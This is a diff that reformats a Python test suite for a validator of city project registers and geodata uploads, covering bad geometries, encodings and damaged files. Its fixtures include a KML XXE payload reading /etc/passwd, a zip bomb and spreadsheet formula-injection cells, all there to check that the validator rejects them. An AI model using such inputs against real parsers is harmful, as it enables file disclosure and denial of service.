-        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [1e300, 10]})),
-    Bad("point-tiny-and-long-decimals", nothing, "outside_region", "geodata", "id cang-cai-cui", "geometry",
-        geometries=geometries_with(cang_cai_cui={"type": "Point",
-                                                 "coordinates": [105.12345678901234, 1e-300]})),
-    Bad("area-mismatch-giant-official-area", nothing, "area_mismatch", "geodata", "id kcn-o-mon", "geometry",
-        rows=rows_with(1, official_area_ha="1" + "0" * 300)),
-    Bad("coordinate-400-digit-integer", geodata_json(lambda doc: json.dumps(doc).replace(
-        "105.8436", "1" + "0" * 400)), "bad_geometry", "geodata", "id cang-cai-cui", "geometry"),
-    Bad("coordinate-5000-digit-integer", geodata_json(lambda doc: json.dumps(doc).replace(
-        "105.8436", "1" + "0" * 5000)), "bad_geometry", "geodata", "id cang-cai-cui", "geometry"),
-    Bad("point-in-ha-noi", nothing, "outside_region", "geodata", "id cang-cai-cui", "geometry",
-        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [105.8542, 21.0285]})),
-    Bad("road-drawn-as-polygon", nothing, "wrong_geometry_kind", "geodata", "id dt-923", "geometry",
-        geometries=geometries_with(dt_923=fixture_geometries()["kcn-o-mon"])),
+    Bad(
+        "point-at-1e300",
+        nothing,
+        "projected_coordinates",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [1e300, 10]}),
+    ),
+    Bad(
+        "point-tiny-and-long-decimals",
+        nothing,
+        "outside_region",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(
+            cang_cai_cui={"type": "Point", "coordinates": [105.12345678901234, 1e-300]}
+        ),
+    ),
+    Bad(
+        "area-mismatch-giant-official-area",
+        nothing,
+        "area_mismatch",
+        "geodata",
+        "id kcn-o-mon",
+        "geometry",
+        rows=rows_with(1, official_area_ha="1" + "0" * 300),
+    ),
+    Bad(
+        "coordinate-400-digit-integer",
+        geodata_json(lambda doc: json.dumps(doc).replace("105.8436", "1" + "0" * 400)),
+        "bad_geometry",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+    ),
+    Bad(
+        "coordinate-5000-digit-integer",
+        geodata_json(lambda doc: json.dumps(doc).replace("105.8436", "1" + "0" * 5000)),
+        "bad_geometry",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+    ),
+    Bad(
+        "point-in-ha-noi",
+        nothing,
+        "outside_region",
+        "geodata",
+        "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [105.8542, 21.0285]}),
+    ),
+    Bad(
+        "road-drawn-as-polygon",
+        nothing,
+        "wrong_geometry_kind",
+        "geodata",
+        "id dt-923",
+        "geometry",
+        geometries=geometries_with(dt_923=fixture_geometries()["kcn-o-mon"]),
+    ),
     # the city boundary: one valid polygon, or one problem (never an outside_city line per project)
-    Bad("boundary-is-a-point", boundary_geometry({"type": "Point", "coordinates": [105.75, 10.03]}),
-        "wrong_geometry_kind", "boundary", "feature 1", "geometry"),
-    Bad("boundary-is-a-line", boundary_geometry({"type": "LineString", "coordinates": LINE}),
-        "wrong_geometry_kind", "boundary", "feature 1", "geometry"),
-    Bad("boundary-bow-tie", boundary_geometry({"type": "Polygon", "coordinates": [[
-        [105.3, 9.8], [106.0, 10.4], [106.0, 9.8], [105.3, 10.4], [105.3, 9.8]]]}),
-        "invalid_geometry", "boundary", "feature 1", "geometry"),
-    Bad("boundary-no-coordinates", boundary_geometry({"type": "Polygon", "coordinates": []}),
-        "empty_geometry", "boundary", "feature 1", "geometry"),
-    Bad("boundary-flat-ring", boundary_geometry({"type": "Polygon", "coordinates": [[
-        [105.3, 9.8], [106.0, 10.4], [105.3, 9.8], [105.3, 9.8]]]}),
-        "invalid_geometry", "boundary", "feature 1", "geometry"),
+    Bad(
+        "boundary-is-a-point",
+        boundary_geometry({"type": "Point", "coordinates": [105.75, 10.03]}),
+        "wrong_geometry_kind",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-is-a-line",
+        boundary_geometry({"type": "LineString", "coordinates": LINE}),
+        "wrong_geometry_kind",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-bow-tie",
+        boundary_geometry(
+            {
+                "type": "Polygon",
+                "coordinates": [[[105.3, 9.8], [106.0, 10.4], [106.0, 9.8], [105.3, 10.4], [105.3, 9.8]]],
+            }
+        ),
+        "invalid_geometry",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-no-coordinates",
+        boundary_geometry({"type": "Polygon", "coordinates": []}),
+        "empty_geometry",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-flat-ring",
+        boundary_geometry(
+            {"type": "Polygon", "coordinates": [[[105.3, 9.8], [106.0, 10.4], [105.3, 9.8], [105.3, 9.8]]]}
+        ),
+        "invalid_geometry",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
     # the city boundary gets every check projects.geojson gets, and one problem, never an outside_city flood
-    Bad("boundary-unclosed-ring", boundary_geometry({"type": "Polygon",
-                                                     "coordinates": [FIXTURE_BOUNDARY[:-1]]}),
-        "unclosed_ring", "boundary", "feature 1", "geometry"),
+    Bad(
+        "boundary-unclosed-ring",
+        boundary_geometry({"type": "Polygon", "coordinates": [FIXTURE_BOUNDARY[:-1]]}),
+        "unclosed_ring",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
     Bad("boundary-crs-vn2000", boundary_crs("EPSG:5897"), "wrong_crs", "boundary", "", "crs"),
-    Bad("boundary-position-as-text", boundary_geometry({"type": "Polygon", "coordinates": [
-        [FIXTURE_BOUNDARY[0], ["105.7", "10.0"], *FIXTURE_BOUNDARY[2:]]]}),
-        "bad_geometry", "boundary", "feature 1", "geometry"),
-    Bad("boundary-lat-lon-swapped", boundary_geometry({"type": "Polygon", "coordinates": [
-        [[y, x] for x, y in FIXTURE_BOUNDARY]]}),
-        "swapped_coordinates", "boundary", "feature 1", "geometry"),
-    Bad("boundary-shifted-out-of-region", boundary_geometry({"type": "Polygon", "coordinates": [
-        [[x, y + 2] for x, y in FIXTURE_BOUNDARY]]}),
-        "outside_region", "boundary", "feature 1", "geometry"),
-    Bad("boundary-nan-coordinate", boundary_geometry({"type": "Polygon", "coordinates": [
-        [FIXTURE_BOUNDARY[0], [math.nan, 9.85], *FIXTURE_BOUNDARY[2:]]]}),
-        "bad_geometry", "boundary", "feature 1", "geometry"),
+    Bad(
+        "boundary-position-as-text",
+        boundary_geometry(
+            {
+                "type": "Polygon",
+                "coordinates": [[FIXTURE_BOUNDARY[0], ["105.7", "10.0"], *FIXTURE_BOUNDARY[2:]]],
+            }
+        ),
+        "bad_geometry",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-lat-lon-swapped",
+        boundary_geometry({"type": "Polygon", "coordinates": [[[y, x] for x, y in FIXTURE_BOUNDARY]]}),
+        "swapped_coordinates",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-shifted-out-of-region",
+        boundary_geometry({"type": "Polygon", "coordinates": [[[x, y + 2] for x, y in FIXTURE_BOUNDARY]]}),
+        "outside_region",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
+    Bad(
+        "boundary-nan-coordinate",
+        boundary_geometry(
+            {
+                "type": "Polygon",
+                "coordinates": [[FIXTURE_BOUNDARY[0], [math.nan, 9.85], *FIXTURE_BOUNDARY[2:]]],
+            }
+        ),
+        "bad_geometry",
+        "boundary",
+        "feature 1",
+        "geometry",
+    ),
     Bad("empty-geodata", write_geodata_bytes(b""), "empty_file", "geodata", "", ""),
-    Bad("geodata-not-json", write_geodata_bytes(b"id,lon,lat\ndt-923,105.7,10.0\n"), "bad_json", "geodata",
-        "line 1", ""),
+    Bad(
+        "geodata-not-json",
+        write_geodata_bytes(b"id,lon,lat\ndt-923,105.7,10.0\n"),
+        "bad_json",
+        "geodata",
+        "line 1",
+        "",
+    ),
 ]
 
 
@@ -465,8 +1087,11 @@ def build(case: Bad, make_register: MakeRegister) -> tuple[Path, Path]:
 
 
 def expected_file(case: Bad, reg: Path, geo: Path) -> str:
-    return {"register": str(reg), "geodata": str(geo / "projects.geojson"),
-            "boundary": str(geo / "city_boundary.geojson")}[case.file]
+    return {
+        "register": str(reg),
+        "geodata": str(geo / "projects.geojson"),
+        "boundary": str(geo / "city_boundary.geojson"),
+    }[case.file]
 
 
 def expected_line_start(case: Bad, reg: Path, geo: Path) -> str:
@@ -486,8 +1111,11 @@ def test_validate(case: Bad, make_register: MakeRegister) -> None:
     matching = [p for p in problems if p.rule == case.rule]
     assert matching, [str(p) for p in problems]
     problem = matching[0]
-    assert (problem.file, problem.where, problem.field) == (expected_file(case, reg, geo), case.where,
-                                                            case.field)
+    assert (problem.file, problem.where, problem.field) == (
+        expected_file(case, reg, geo),
+        case.where,
+        case.field,
+    )
     line = str(problem)
     assert line.startswith(expected_line_start(case, reg, geo))
     assert line.endswith(f" [{case.rule}]")
@@ -513,17 +1141,34 @@ def test_cli_in_process(case: Bad, make_register: MakeRegister, capsys: pytest.C
     out = capsys.readouterr()
     lines = out.err.splitlines()
     assert lines[-1].endswith("problem(s) found")
-    assert any(line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
-               for line in lines), lines
+    assert any(
+        line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
+        for line in lines
+    ), lines
 
 
 #: Cases also run as a real ``python -m portfolio validate`` process (about 1.5 s each to start), one or
 #: more of every kind; every case runs through the CLI in process above.
-SUBPROCESS = ("semicolon-delimiter-excel-vi", "windows-1258", "register-over-50mb", "xlsx-saved-as-csv",
-              "missing-column", "year-1890", "formula-hyperlink", "duplicate-id", "geometry-missing",
-              "lat-lon-swapped", "crs-member-vn2000-utm", "empty-geodata", "number-with-underscore",
-              "tab-in-name", "utf-16le-no-bom", "notes-over-csv-field-limit", "point-at-1e300",
-              "boundary-nan-coordinate")
+SUBPROCESS = (
+    "semicolon-delimiter-excel-vi",
+    "windows-1258",
+    "register-over-50mb",
+    "xlsx-saved-as-csv",
+    "missing-column",
+    "year-1890",
+    "formula-hyperlink",
+    "duplicate-id",
+    "geometry-missing",
+    "lat-lon-swapped",
+    "crs-member-vn2000-utm",
+    "empty-geodata",
+    "number-with-underscore",
+    "tab-in-name",
+    "utf-16le-no-bom",
+    "notes-over-csv-field-limit",
+    "point-at-1e300",
+    "boundary-nan-coordinate",
+)
 
 
 def test_cli_subprocess(make_register: MakeRegister, tmp_path: Path) -> None:
@@ -548,8 +1193,10 @@ def test_cli_subprocess(make_register: MakeRegister, tmp_path: Path) -> None:
         assert "Traceback" not in result.stderr + result.stdout, case.name
         assert "Warning" not in result.stderr, (case.name, result.stderr)  # e.g. shapely's on a NaN
         lines = result.stderr.splitlines()
-        assert any(line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
-                   for line in lines), (case.name, lines)
+        assert any(
+            line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
+            for line in lines
+        ), (case.name, lines)
 
 
 def test_hostile_names_are_text_not_errors(make_register: MakeRegister) -> None:
@@ -588,28 +1235,63 @@ def _shapefile_zip(tmp: Path, frame: gpd.GeoDataFrame, parts: tuple[str, ...]) -
 
 
 UPLOADS: list[tuple[str, str, Callable[[Path], bytes], str]] = [
-    ("zip-not-shapefile", "roads.zip", lambda tmp: _zip({"roads.xlsx": b"PK..", "README.txt": b"hi"}),
-     "zip_not_shapefile"),
-    ("kml-no-features", "empty.kml",
-     lambda tmp: b'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
-                 b"<Document><Folder><name>Layer</name></Folder></Document></kml>", "no_features"),
+    (
+        "zip-not-shapefile",
+        "roads.zip",
+        lambda tmp: _zip({"roads.xlsx": b"PK..", "README.txt": b"hi"}),
+        "zip_not_shapefile",
+    ),
+    (
+        "kml-no-features",
+        "empty.kml",
+        lambda tmp: (
+            b'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
+            b"<Document><Folder><name>Layer</name></Folder></Document></kml>"
+        ),
+        "no_features",
+    ),
     ("upload-over-limit", "huge.geojson", lambda tmp: b"{" + b" " * MAX_UPLOAD_BYTES + b"}", "too_large"),
     ("upload-empty", "nothing.geojson", lambda tmp: b"", "empty_file"),
     ("image-named-geojson", "map.geojson", lambda tmp: b"\x89PNG\r\n\x1a\n\x00\x00", "unknown_format"),
-    ("zip-bomb", "bomb.zip", lambda tmp: _zip({f"{i}.bin": b"\x00" * (30 << 20) for i in range(4)}),
-     "zip_bomb"),
-    ("kml-xxe", "xxe.kml", lambda tmp: b'<!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/passwd">]><kml>&e;</kml>',
-     "unsafe_xml"),
-    ("shapefile-metres-no-prj", "vn2000.zip",
-     lambda tmp: _shapefile_zip(tmp, WGS.to_crs("EPSG:5897"), ("shp", "shx", "dbf")), "no_crs"),
-    ("geojson-metres-no-crs", "metres.geojson",
-     lambda tmp: json.dumps({"type": "Feature", "properties": {},
-                             "geometry": {"type": "Point", "coordinates": [593605.2, 1104877.9]}}).encode(),
-     "wrong_crs"),
+    (
+        "zip-bomb",
+        "bomb.zip",
+        lambda tmp: _zip({f"{i}.bin": b"\x00" * (30 << 20) for i in range(4)}),
+        "zip_bomb",
+    ),
+    (
+        "kml-xxe",
+        "xxe.kml",
+        lambda tmp: b'<!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/passwd">]><kml>&e;</kml>',
+        "unsafe_xml",
+    ),
+    (
+        "shapefile-metres-no-prj",
+        "vn2000.zip",
+        lambda tmp: _shapefile_zip(tmp, WGS.to_crs("EPSG:5897"), ("shp", "shx", "dbf")),
+        "no_crs",
+    ),
+    (
+        "geojson-metres-no-crs",
+        "metres.geojson",
+        lambda tmp: json.dumps(
+            {
+                "type": "Feature",
+                "properties": {},
+                "geometry": {"type": "Point", "coordinates": [593605.2, 1104877.9]},
+            }
+        ).encode(),
+        "wrong_crs",
+    ),
     ("json-not-geojson", "table.json", lambda tmp: b'[{"id": 1}]', "not_geojson"),
-    ("geojson-latin-1", "latin1.geojson",
-     lambda tmp: '{"type": "Feature", "properties": {"name": "Ô Môn"}, "geometry": null}'.encode("latin-1"),
-     "not_utf8"),
+    (
+        "geojson-latin-1",
+        "latin1.geojson",
+        lambda tmp: '{"type": "Feature", "properties": {"name": "Ô Môn"}, "geometry": null}'.encode(
+            "latin-1"
+        ),
+        "not_utf8",
+    ),
     ("csv-upload", "projects.csv", lambda tmp: ",".join(schema.COLUMNS).encode(), "unknown_format"),
 ]
 
@@ -647,7 +1329,7 @@ def test_random_damage_never_crashes(make_register: MakeRegister, monkeypatch: p
             if op < 0.4:
                 data[pos] = rng.choice(alphabet)
             elif op < 0.7:
-                del data[pos:pos + rng.randint(1, 20)]
+                del data[pos : pos + rng.randint(1, 20)]
             else:
                 data[pos:pos] = bytes(rng.choice(alphabet) for _ in range(rng.randint(1, 5)))
         for path, original in originals.items():
@@ -723,30 +1405,44 @@ def test_coordinates_are_lexed(make_register: MakeRegister, monkeypatch: pytest.
     assert calls == []
     rows = fixture_rows()
     rows[1]["status"] = "open"
-    reg, geo = make_register(rows=rows, geometries={**fixture_geometries(), "cang-cai-cui": {
-        "type": "Point", "coordinates": [9.9947, 105.8436]}}, name="broken")
+    reg, geo = make_register(
+        rows=rows,
+        geometries={
+            **fixture_geometries(),
+            "cang-cai-cui": {"type": "Point", "coordinates": [9.9947, 105.8436]},
+        },
+        name="broken",
+    )
     register_module.load_boundary(geo)
     calls.clear()
     assert [p.rule for p in validate(reg, geo)] == ["unknown_value", "swapped_coordinates"]
     assert calls == ["geometry"]  # the broken feature (a Point), read again to quote its numbers
 
 
-POLYGON_WITH_HOLE = [[[105.60, 10.10], [105.64, 10.10], [105.64, 10.14], [105.60, 10.14], [105.60, 10.10]],
-                     [[105.61, 10.11], [105.61, 10.12], [105.62, 10.12], [105.62, 10.11], [105.61, 10.11]]]
+POLYGON_WITH_HOLE = [
+    [[105.60, 10.10], [105.64, 10.10], [105.64, 10.14], [105.60, 10.14], [105.60, 10.10]],
+    [[105.61, 10.11], [105.61, 10.12], [105.62, 10.12], [105.62, 10.11], [105.61, 10.11]],
+]
 MIXED_GEOMETRIES: dict[str, Any] = {
     "line": {"type": "LineString", "coordinates": LINE},
     "multiline": {"type": "MultiLineString", "coordinates": [LINE, [[105.5, 10.0], [105.51, 10.02]]]},
     "polygon": {"type": "Polygon", "coordinates": POLYGON_WITH_HOLE},
-    "multipolygon": {"type": "MultiPolygon", "coordinates": [
-        POLYGON_WITH_HOLE, [[[105.70, 10.0], [105.71, 10.0], [105.71, 10.01], [105.70, 10.0]]]]},
+    "multipolygon": {
+        "type": "MultiPolygon",
+        "coordinates": [
+            POLYGON_WITH_HOLE,
+            [[[105.70, 10.0], [105.71, 10.0], [105.71, 10.01], [105.70, 10.0]]],
+        ],
+    },
     "point": {"type": "Point", "coordinates": [105.8436, 9.9947]},
     "multipoint": {"type": "MultiPoint", "coordinates": [[105.8436, 9.9947], [105.81, 10.0]]},
 }
 
 
 def mixed_document(**extra: Any) -> dict[str, Any]:
-    features = [{"type": "Feature", "properties": {"id": k}, "geometry": g}
-                for k, g in MIXED_GEOMETRIES.items()]
+    features = [
+        {"type": "Feature", "properties": {"id": k}, "geometry": g} for k, g in MIXED_GEOMETRIES.items()
+    ]
     return {"type": "FeatureCollection", "features": features, **extra}
 
 
@@ -762,8 +1458,10 @@ def edit(old: str, new: str, text: str = MIXED, count: int = 1) -> str:
 EDGE_DOCUMENTS: list[tuple[str, str]] = [
     ("mixed", MIXED),
     ("mixed-indented", json.dumps(mixed_document(), indent=2)),
-    ("exponents-and-integers",
-     edit("10.0]", "10]", edit("105.5,", "105.5E0,", edit("105.8436", "1.058436e2")), count=9)),
+    (
+        "exponents-and-integers",
+        edit("10.0]", "10]", edit("105.5,", "105.5E0,", edit("105.8436", "1.058436e2")), count=9),
+    ),
     ("negative-zero", edit("[105.8436, 9.9947]", "[-0, 9.9947]")),
     ("overflow", edit("105.8436", "1e400")),
     ("nan", edit("105.8436", "NaN")),
@@ -774,23 +1472,42 @@ EDGE_DOCUMENTS: list[tuple[str, str]] = [
     ("one-number", edit("[105.8436, 9.9947]", "[105.8436]")),
     ("empty-position", edit("[105.81, 10.0]", "[]")),
     ("unclosed-hole", edit("[105.61, 10.11]]]", "[105.615, 10.11]]]")),
-    ("short-ring", edit("[[105.7, 10.0], [105.71, 10.0], [105.71, 10.01], [105.7, 10.0]]",
-                        "[[105.7, 10.0], [105.71, 10.01], [105.7, 10.0]]")),
+    (
+        "short-ring",
+        edit(
+            "[[105.7, 10.0], [105.71, 10.0], [105.71, 10.01], [105.7, 10.0]]",
+            "[[105.7, 10.0], [105.71, 10.01], [105.7, 10.0]]",
+        ),
+    ),
     ("one-point-line", edit("[[105.5, 10.0], [105.51, 10.02]]", "[[105.5, 10.0]]")),
     ("depth-mismatch", edit('"type": "MultiLineString"', '"type": "LineString"')),
     ("wrong-type-name", edit('"type": "MultiPoint"', '"type": "multipoint"')),
     ("geometry-collection", edit('"type": "MultiPoint"', '"type": "GeometryCollection"')),
-    ("duplicate-coordinates-key", edit('"coordinates": [105.8436, 9.9947]',
-                                       '"coordinates": [105.8436, 9.9947], "coordinates": [105.7, 9.9]')),
+    (
+        "duplicate-coordinates-key",
+        edit(
+            '"coordinates": [105.8436, 9.9947]',
+            '"coordinates": [105.8436, 9.9947], "coordinates": [105.7, 9.9]',
+        ),
+    ),
     ("escaped-key", edit('"coordinates": [105.8436, 9.9947]', '"coordin\\u0061tes": [105.8436, 9.9947]')),
     ("escaped-key-with-text", edit('"coordinates": [105.8436, 9.9947]', '"coordin\\u0061tes": "0"')),
-    ("coordinates-in-properties", edit('"properties": {"id": "line"}',
-                                       '"properties": {"id": "line", "coordinates": [[1, 2]]}')),
+    (
+        "coordinates-in-properties",
+        edit('"properties": {"id": "line"}', '"properties": {"id": "line", "coordinates": [[1, 2]]}'),
+    ),
     ("coordinates-in-crs", json.dumps(mixed_document(crs={"type": "name", "coordinates": [1, 2]}))),
-    ("coordinates-in-a-string", edit('"properties": {"id": "line"}',
-                                     '"properties": {"id": "line", "note": "\\"coordinates\\": [1, 2]"}')),
-    ("quote-ended-key", edit('"properties": {"id": "line"}',
-                             '"properties": {"id": "line", "a \\"coordinates": [1, 2]}')),
+    (
+        "coordinates-in-a-string",
+        edit(
+            '"properties": {"id": "line"}',
+            '"properties": {"id": "line", "note": "\\"coordinates\\": [1, 2]"}',
+        ),
+    ),
+    (
+        "quote-ended-key",
+        edit('"properties": {"id": "line"}', '"properties": {"id": "line", "a \\"coordinates": [1, 2]}'),
+    ),
     ("self-intersection", edit("[105.64, 10.1], [105.64, 10.14]", "[105.64, 10.14], [105.64, 10.1]")),
     ("outside-region", edit("105.51, 10.02", "105.51, 21.02")),
     ("swapped", edit("[105.81, 10.0]", "[10.0, 105.81]")),
@@ -807,9 +1524,13 @@ EDGE_DOCUMENTS: list[tuple[str, str]] = [
     ("coordinates-in-a-non-text-id", edit('{"id": "multipoint"}', '{"id": {"coordinates": [1, 2]}}')),
     ("coordinates-in-the-type", edit('"type": "MultiPoint"', '"type": {"coordinates": [1, 2]}')),
     ("coordinates-in-a-position", edit("[105.81, 10.0]", '{"coordinates": [1, 2]}')),
-    ("coordinates-in-a-geometry-collection", edit(
-        '"type": "MultiPoint", "coordinates": [[105.8436, 9.9947], [105.81, 10.0]]',
-        '"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [105.81, 10.0]}]')),
+    (
+        "coordinates-in-a-geometry-collection",
+        edit(
+            '"type": "MultiPoint", "coordinates": [[105.8436, 9.9947], [105.81, 10.0]]',
+            '"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [105.81, 10.0]}]',
+        ),
+    ),
 ]
 
 
@@ -837,30 +1558,64 @@ def test_lexed_geodata_reader_agrees_on_random_damage(tmp_path: Path) -> None:
             pos = rng.randrange(start, min(len(text), start + 120))
             op = rng.random()
             if op < 0.35:
-                text = text[:pos] + rng.choice(alphabet) + text[pos + 1:]
+                text = text[:pos] + rng.choice(alphabet) + text[pos + 1 :]
             elif op < 0.55:
-                text = text[:pos] + text[pos + rng.randint(1, 8):]
+                text = text[:pos] + text[pos + rng.randint(1, 8) :]
             elif op < 0.75:
                 text = text[:pos] + rng.choice(alphabet) + text[pos:]
             else:
                 match = re.compile(r"-?[0-9][0-9.eE+-]*").search(text, pos)
                 if match:
-                    text = text[:match.start()] + rng.choice(numbers) + text[match.end():]
+                    text = text[: match.start()] + rng.choice(numbers) + text[match.end() :]
         path.write_text(text, encoding="utf-8")
         assert_same_geodata(path)
 
 
 CELL_DAMAGE: list[Callable[[str], str]] = [
-    lambda v: "", lambda v: " " + v, lambda v: v + "\u00a0", lambda v: "=" + v, lambda v: "-" + v,
-    lambda v: "@" + v, lambda v: "\t" + v, lambda v: v + "\n", lambda v: v + "\x07",
-    lambda v: unicodedata.normalize("NFD", v + " Đường tỉnh"), lambda v: "\u0301" + v, lambda v: v.upper(),
-    lambda v: v + ".0", lambda v: "2200", lambda v: "1989", lambda v: "2021", lambda v: "2061",
-    lambda v: "01", lambda v: "7", lambda v: "-5", lambda v: "nan", lambda v: "1_000", lambda v: "12,5",
-    lambda v: "2021-02-30", lambda v: "2099-01-01", lambda v: "２０２１", lambda v: "ongoing",
-    lambda v: "kcn-o-mon", lambda v: "QL 91", lambda v: v[: len(v) // 2], lambda v: v + "|" + v,
-    lambda v: "1_9.3", lambda v: "\u0661\u0662", lambda v: "1e3", lambda v: "12.", lambda v: "+12",
-    lambda v: "02", lambda v: "9" * 400, lambda v: v + "\t" + v, lambda v: v + "\x85", lambda v: v + "\x9b",
-    lambda v: v + "\u2028", lambda v: v + "x" * 32_767, lambda v: "202/KH-UBND=\u0662\u0660\u0662\u0661-2025",
+    lambda v: "",
+    lambda v: " " + v,
+    lambda v: v + "\u00a0",
+    lambda v: "=" + v,
+    lambda v: "-" + v,
+    lambda v: "@" + v,
+    lambda v: "\t" + v,
+    lambda v: v + "\n",
+    lambda v: v + "\x07",
+    lambda v: unicodedata.normalize("NFD", v + " Đường tỉnh"),
+    lambda v: "\u0301" + v,
+    lambda v: v.upper(),
+    lambda v: v + ".0",
+    lambda v: "2200",
+    lambda v: "1989",
+    lambda v: "2021",
+    lambda v: "2061",
+    lambda v: "01",
+    lambda v: "7",
+    lambda v: "-5",
+    lambda v: "nan",
+    lambda v: "1_000",
+    lambda v: "12,5",
+    lambda v: "2021-02-30",
+    lambda v: "2099-01-01",
+    lambda v: "２０２１",
+    lambda v: "ongoing",
+    lambda v: "kcn-o-mon",
+    lambda v: "QL 91",
+    lambda v: v[: len(v) // 2],
+    lambda v: v + "|" + v,
+    lambda v: "1_9.3",
+    lambda v: "\u0661\u0662",
+    lambda v: "1e3",
+    lambda v: "12.",
+    lambda v: "+12",
+    lambda v: "02",
+    lambda v: "9" * 400,
+    lambda v: v + "\t" + v,
+    lambda v: v + "\x85",
+    lambda v: v + "\x9b",
+    lambda v: v + "\u2028",
+    lambda v: v + "x" * 32_767,
+    lambda v: "202/KH-UBND=\u0662\u0660\u0662\u0661-2025",
 ]
 
 
@@ -871,7 +1626,8 @@ def test_row_checks_by_column_agree_with_each_row_alone_on_random_damage() -> No
 
     rng = random.Random(2026)
     template = [base_row(id=f"p-{i}", name_en=f"Project {i}") for i in range(4)] + [
-        {**row, "id": f"{row['id']}-{i}"} for i in range(4) for row in fixture_rows()[1:]]
+        {**row, "id": f"{row['id']}-{i}"} for i in range(4) for row in fixture_rows()[1:]
+    ]
     for _ in range(300):
         rows = [dict(row) for row in template]
         for _ in range(rng.randint(0, 4)):
@@ -891,13 +1647,32 @@ def test_bulk_number_parsing_is_exactly_float() -> None:
     import numpy as np
 
     rng = random.Random(7)
-    tokens = ([repr(rng.uniform(-200, 200)) for _ in range(20000)]
-              + [f"{rng.uniform(104, 107):.{rng.randint(0, 20)}f}" for _ in range(20000)]
-              + [f"{rng.random():.25e}" for _ in range(5000)]
-              + [str(rng.randrange(-10**30, 10**30)) for _ in range(500)]
-              + ["105.7777777777777777777777777777", "1.700000000000000177635684", "9007199254740993",
-                 "0.1", "1e-320", "4.9e-324", "2.4703282292062327e-324", "2.2250738585072011e-308", "1e400",
-                 "-1e400", "-0", "0", "-0.0", "1E5", "1e+5", "1e-5", "10", "105"])
+    tokens = (
+        [repr(rng.uniform(-200, 200)) for _ in range(20000)]
+        + [f"{rng.uniform(104, 107):.{rng.randint(0, 20)}f}" for _ in range(20000)]
+        + [f"{rng.random():.25e}" for _ in range(5000)]
+        + [str(rng.randrange(-(10**30), 10**30)) for _ in range(500)]
+        + [
+            "105.7777777777777777777777777777",
+            "1.700000000000000177635684",
+            "9007199254740993",
+            "0.1",
+            "1e-320",
+            "4.9e-324",
+            "2.4703282292062327e-324",
+            "2.2250738585072011e-308",
+            "1e400",
+            "-1e400",
+            "-0",
+            "0",
+            "-0.0",
+            "1E5",
+            "1e+5",
+            "1e-5",
+            "10",
+            "105",
+        ]
+    )
     got = register_module.parse_numbers(",".join(tokens).encode())
     want = np.array([float(json.loads(token)) for token in tokens])
     assert got.shape == want.shape
@@ -921,8 +1696,9 @@ def _geodata_under_a_file(reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatc
     return reg, reg / "geodata", reg / "geodata"
 
 
-def _register_name_too_long(reg: Path, geo: Path, tmp: Path,
-                            mp: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
+def _register_name_too_long(
+    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
+) -> tuple[Path, Path, Path]:
     long = tmp / ("a" * 5000 + ".csv")
     return long, geo, long
 
@@ -949,14 +1725,16 @@ def _deny(mp: pytest.MonkeyPatch, top: Path, *, itself: bool) -> None:
     mp.setattr(Path, "open", open_)
 
 
-def _geodata_in_private_folder(reg: Path, geo: Path, tmp: Path,
-                               mp: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
+def _geodata_in_private_folder(
+    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
+) -> tuple[Path, Path, Path]:
     _deny(mp, geo, itself=True)  # its parent folder may not be entered
     return reg, geo, geo
 
 
-def _geodata_files_private(reg: Path, geo: Path, tmp: Path,
-                           mp: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
+def _geodata_files_private(
+    reg: Path, geo: Path, tmp: Path, mp: pytest.MonkeyPatch
+) -> tuple[Path, Path, Path]:
     _deny(mp, geo, itself=False)  # the folder can be looked at, the files in it cannot
     return reg, geo, geo / "projects.geojson"
 
@@ -966,16 +1744,25 @@ UNLOOKABLE: list[tuple[str, Locate, str]] = [
     ("geodata-is-a-file", _geodata_is_a_file, "geodata path is not a folder: give the folder holding"),
     ("geodata-under-a-file", _geodata_under_a_file, "geodata folder cannot be looked at: Not a directory"),
     ("register-name-too-long", _register_name_too_long, "register file cannot be read: File name too long"),
-    ("geodata-in-private-folder", _geodata_in_private_folder,
-     "geodata folder cannot be looked at: Permission denied"),
+    (
+        "geodata-in-private-folder",
+        _geodata_in_private_folder,
+        "geodata folder cannot be looked at: Permission denied",
+    ),
     ("geodata-files-private", _geodata_files_private, "geodata file cannot be read: Permission denied"),
 ]
 
 
 @pytest.mark.parametrize(("label", "locate", "message"), UNLOOKABLE, ids=[u[0] for u in UNLOOKABLE])
